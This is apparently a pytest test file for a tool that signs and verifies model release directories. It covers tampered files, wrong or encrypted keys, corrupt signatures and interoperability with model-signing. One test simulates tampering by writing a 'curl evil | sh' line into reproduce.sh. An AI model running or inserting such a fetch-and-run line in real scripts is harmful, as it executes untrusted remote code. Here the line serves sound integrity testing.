"""accel sign and accel verify --key: every change, the other key and a lost signature are told."""

from __future__ import annotations

import base64
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from accel import release, signature
from accel.cli import cli
from accel.errors import CandidateBroken, MissingExtra, UsageError
from accel.questions.verify import verify
from accel.steps.sign import sign
from accel.values import Release

Pack = Callable[..., Release]
Keys = Callable[..., tuple[Path, Path]]


@pytest.fixture
def signed(packed: Pack, keys: Keys) -> tuple[Path, Path]:
    """A signed release and the public key."""
    private, public = keys("own")
    root = packed(external=True).path
    sign(root, private)
    return root, public


def ask(root: Path, *words: object) -> Result:
    """accel verify, as it is typed."""
    return CliRunner().invoke(cli, ["verify", str(root), *map(str, words)])


def test_a_signed_release_is_verified(signed: tuple[Path, Path]) -> None:
    """By its public key; the release's own digest is what it was, and the portable graph loads."""
    root, public = signed
    found = verify(root, public)
    assert (found.intact, found.differences) == (True, ())
    assert any("the signature of all files" in line for line in found.verified)
    assert not any("who made it" in line for line in found.unverified)
    assert ask(root, "--key", public).exit_code == 0
    release.load(root, portable=True).close()


def test_without_a_key_a_signature_says_nothing(signed: tuple[Path, Path]) -> None:
    """It is there, it is not counted as verified, and the line says what to type."""
    found = verify(signed[0])
    assert found.intact
    assert not any("signature" in line for line in found.verified)
    assert any(f"accel verify {signed[0]} --key public.pem" in line for line in found.unverified)


def test_signing_changes_no_file(packed: Pack, keys: Keys) -> None:
    """One is added; a second signature, by another key, takes its place."""
    root = packed().path
    before = {p.name: p.read_bytes() for p in root.iterdir()}
    first, second = keys("first"), keys("second")
    sign(root, first[0])
    sign(root, second[0])
    after = {p.name: p.read_bytes() for p in root.iterdir()}
    assert after.pop(release.SIGNATURE)
    assert after == before
    assert verify(root, second[1]).intact
    assert verify(root, first[1]).differences == ("model.sig: made with another key",)


def test_a_change_in_any_file_breaks_it(signed: tuple[Path, Path]) -> None:
    """Each file in turn, the manifest and the signature too: exit 1, and the file is named."""
    root, public = signed
    for path in sorted(p for p in root.rglob("*") if p.is_file()):
        whole = path.read_bytes()
        path.write_bytes(whole[:-9] + bytes((whole[-9] ^ 1,)) + whole[-8:])
        found = ask(root, "--key", public)
        assert found.exit_code in (1, 2), path.name  # 2: a manifest that is no JSON any more
        assert path.name in found.output
        path.write_bytes(whole)
    assert ask(root, "--key", public).exit_code == 0


def test_what_goes_unseen_without_a_key_is_seen_with_it(signed: tuple[Path, Path]) -> None:
    """Someone changes a file and writes every digest anew: only the signature tells."""
    root, public = signed
    (root / "reproduce.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    data = release.document(root)
    data["artefacts"]["reproduce.sh"] = release.store.digest_file(root / "reproduce.sh")
    release.rewrite(root, data)
    assert verify(root).intact
    found = ask(root, "--key", public)
    assert found.exit_code == 1
    assert "model.sig: does not hold" in found.stdout
    assert "changed: accel.json, reproduce.sh" in found.stdout
    assert "its signature is not verified" in found.output


def test_an_added_and_a_missing_file_are_named(signed: tuple[Path, Path]) -> None:
    """By the manifest and by the signature."""
    root, public = signed
    (root / ".gitignore").write_text("*")
    (root / "w.bin").unlink()
    lines = verify(root, public).differences
    assert {".gitignore: not in the manifest", "w.bin: missing"} <= set(lines)
    [said] = [line for line in lines if line.startswith("model.sig: ")]
    assert ".gitignore" in said
    assert "w.bin" in said


def test_a_missing_signature_is_no_pass(packed: Pack, keys: Keys) -> None:
    """With --key a signature is demanded; a link to one elsewhere is none."""
    root, (private, public) = packed().path, keys("own")
    found = ask(root, "--key", public)
    assert found.exit_code == 1
    assert "model.sig: missing" in found.stdout
    sign(root, private)
    (root / release.SIGNATURE).rename(root.parent / "elsewhere.sig")
    (root / release.SIGNATURE).symlink_to(root.parent / "elsewhere.sig")
    assert "model.sig: a link, not a file" in ask(root, "--key", public).stdout


@pytest.mark.parametrize(
    "spoil",
    [
        b"",
        b"not json",
        b"[]",
        b"{}",
        b'{"verificationMaterial": {}, "dsseEnvelope": 7}',
        b"[" * 100_000,
        b"\xff\xfe\x00",
    ],
)
def test_garbage_in_its_place_is_refused(signed: tuple[Path, Path], spoil: bytes) -> None:
    """One line and exit 1, whatever the library raises."""
    root, public = signed
    (root / release.SIGNATURE).write_bytes(spoil)
    found = ask(root, "--key", public)
    assert (found.exit_code, "model.sig: cannot be checked" in found.stdout) == (1, True), (
        found.output
    )
    assert verify(root).intact  # nothing said without a key


def _bundle(root: Path) -> tuple[Any, Any]:
    """The signature's JSON, and the statement in it."""
    bundle = json.loads((root / release.SIGNATURE).read_text())
    return bundle, json.loads(base64.b64decode(bundle["dsseEnvelope"]["payload"]))


def test_an_edited_statement_is_refused(signed: tuple[Path, Path]) -> None:
    """The digests that were signed, written anew for another file: the signature is of the old."""
    root, public = signed
    bundle, statement = _bundle(root)
    statement["predicate"]["resources"][0]["digest"] = "0" * 64
    payload = base64.b64encode(json.dumps(statement).encode()).decode()
    bundle["dsseEnvelope"]["payload"] = payload
    (root / release.SIGNATURE).write_text(json.dumps(bundle))
    assert verify(root, public).differences == (
        "model.sig: does not hold: it was changed, or made with another key",
    )


def test_a_signature_without_the_manifest_is_refused(packed: Pack, keys: Keys) -> None:
    """Made by another tool that was told to leave accel.json out: then nothing binds the rest."""
    root, (private, public) = packed().path, keys("own")
    from model_signing import hashing, signing

    part = hashing.Config().set_ignored_paths(paths=[release.MANIFEST, release.SIGNATURE])
    config = signing.Config().use_elliptic_key_signer(private_key=private)
    config.set_hashing_config(part).sign(root, root / release.SIGNATURE)
    [line] = verify(root, public).differences
    assert "does not cover accel.json" in line


def test_other_tools_read_it(signed: tuple[Path, Path]) -> None:
    """model-signing's own command verifies what accel signed, and refuses what was changed."""
    root, public = signed
    words = [sys.executable, "-m", "model_signing", "verify", "key", str(root)]
    words += ["--signature", str(root / release.SIGNATURE), "--public_key", str(public)]
    assert subprocess.run(words, capture_output=True).returncode == 0
    (root / "w.bin").write_bytes(b"x")
    assert subprocess.run(words, capture_output=True).returncode == 1


@pytest.mark.parametrize("kind", ["secp256k1", "rsa"])
def test_keys_of_another_kind_are_refused(packed: Pack, keys: Keys, kind: str) -> None:
    """With the command that makes a right one; nothing was written."""
    root, (private, public) = packed().path, keys("odd", kind=kind)
    with pytest.raises(UsageError, match=r"not a private key .* openssl ecparam"):
        sign(root, private)
    with pytest.raises(UsageError, match=r"not a public key .* openssl ec "):
        verify(root, public)
    assert not (root / release.SIGNATURE).exists()


def test_the_wrong_half_and_no_key_at_all_are_refused(packed: Pack, keys: Keys) -> None:
    """Exit 2 for a mistaken --key, before anything is said of the release."""
    root, (private, public) = packed().path, keys("own")
    with pytest.raises(UsageError, match="not a private key"):
        sign(root, public)
    with pytest.raises(UsageError, match="not a public key"):
        verify(root, private)
    with pytest.raises(UsageError, match="cannot be read"):
        verify(root, root / "nowhere.pem")
    with pytest.raises(UsageError, match="cannot be read"):
        sign(root, root)


def test_an_encrypted_key_takes_its_password_from_the_environment(
    packed: Pack, keys: Keys, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Without it, or with another, the message names the variable, not the password."""
    root, (private, public) = (
        packed().path,
        keys("locked", password=b"s\xc3\xa9same", kind="secp384r1"),
    )
    for password in (None, "open"):
        with pytest.raises(UsageError, match="ACCEL_KEY_PASSWORD"):
            sign(root, private, password=password)
    monkeypatch.setenv("ACCEL_KEY_PASSWORD", "sésame")
    done = CliRunner().invoke(cli, ["sign", str(root), "--key", str(private)])
    assert done.exit_code == 0, done.output
    assert verify(root, public).intact


def test_a_plain_key_with_a_password_is_told_as_that(
    packed: Pack, keys: Keys, monkeypatch: pytest.MonkeyPatch
) -> None:
    """And an empty variable, a CI's secret that is not set, is no password."""
    root, (private, public) = packed().path, keys("own")
    with pytest.raises(UsageError, match="is not encrypted, and a password was given"):
        sign(root, private, password="open")
    monkeypatch.setenv("ACCEL_KEY_PASSWORD", "")
    done = CliRunner().invoke(cli, ["sign", str(root), "--key", str(private)])
    assert done.exit_code == 0, done.output
    assert verify(root, public).intact


def test_what_differs_is_not_signed(packed: Pack, keys: Keys) -> None:
    """A signature vouches for what was packed, not for what became of it."""
    root, (private, _) = packed().path, keys("own")
    (root / "rows.npz").write_bytes(b"x")
    with pytest.raises(CandidateBroken, match=r"rows\.npz"):
        sign(root, private)
    assert not (root / release.SIGNATURE).exists()


def test_no_network_is_touched(packed: Pack, keys: Keys, monkeypatch: pytest.MonkeyPatch) -> None:
    """Signing and verifying with a key in a file work where no socket can be opened."""
    import socket

    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("a socket")

    root, (private, public) = packed().path, keys("own")
    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    sign(root, private)
    assert verify(root, public).intact


def test_without_the_extra_the_line_to_type_is_told(
    packed: Pack, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Both libraries, the undeclared one too: exit 7; a plain verify needs neither."""
    root = packed().path
    for name in ("model_signing", "model_signing.signing", "model_signing.verifying"):
        monkeypatch.setitem(sys.modules, name, None)
    with pytest.raises(MissingExtra, match=r"pip install 'accel-inference\[sign\]'"):
        sign(root, root / "private.pem")
    with pytest.raises(MissingExtra, match=r"pip install 'accel-inference\[sign\]'"):
        verify(root, root / "public.pem")
    assert verify(root).intact


def test_a_copy_elsewhere_under_another_name_holds(
    signed: tuple[Path, Path], tmp_path: Path
) -> None:
    """A release is copied to devices and renamed; the signature is of its files."""
    root, public = signed
    there = tmp_path / "device" / "model-7"
    shutil.copytree(root, there)
    os.utime(there / "accel.json", (0, 0))
    assert verify(there, public).intact
    assert signature.hint(there) == signature.hint(root) != ""


def test_what_a_killed_one_left_does_not_stand_in_the_way(
    signed: tuple[Path, Path], keys: Keys
) -> None:
    """Half a signature, half a manifest, and a bill that the manifest does not tell of yet."""
    pytest.importorskip(
        "cyclonedx",
        reason="no cyclonedx-python-lib (pip install -e '.[sbom]'); instead: test_who_loads_meanwhile_sees_no_half_of_it",
    )
    root, _ = signed
    (root / f".{release.SIGNATURE}.0123abcd").write_text("half")
    (root / f".{release.MANIFEST}.0123abcd").write_text("half")
    (root / release.BILL).write_text("{}")
    private, public = keys("again")
    sign(root, private, sbom=True)
    assert verify(root, public).intact


def test_who_loads_meanwhile_sees_no_half_of_it(
    signed: tuple[Path, Path], keys: Keys, monkeypatch: pytest.MonkeyPatch
) -> None:
    """At the moment when the new signature is written and not yet in its place."""
    root, _ = signed
    seen: list[tuple[str, ...]] = []
    real = os.fsync

    def look(handle: int) -> None:
        seen.append(release.differences(root))
        real(handle)

    monkeypatch.setattr(os, "fsync", look)
    sign(root, keys("again")[0])
    assert set(seen) == {()}
